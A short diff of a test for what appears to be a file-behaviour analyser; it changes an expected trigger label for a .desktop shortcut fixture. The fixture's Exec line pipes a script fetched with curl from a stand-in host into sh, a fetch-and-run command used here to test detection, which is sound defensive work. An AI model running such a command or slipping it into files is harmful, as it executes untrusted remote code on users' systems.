@@ -8,7 +8,7 @@ test('what a shortcut runs is a start of its own', async () => {
     '[Desktop Entry]\nExec=curl -s http://a.invalid/a.sh | sh\n',
   )
   expect(starts).toMatchObject([
-    { trigger: 'open', by: 'opening a.desktop', runs: { as: 'command', shell: 'sh' } },
+    { trigger: 'start', by: 'opening a.desktop', runs: { as: 'command', shell: 'sh' } },
   ])
   expect(acts.some(({ kind, trail }) => kind === 'run-code' && trail?.start.by === 'opening a.desktop')).toBe(
     true,
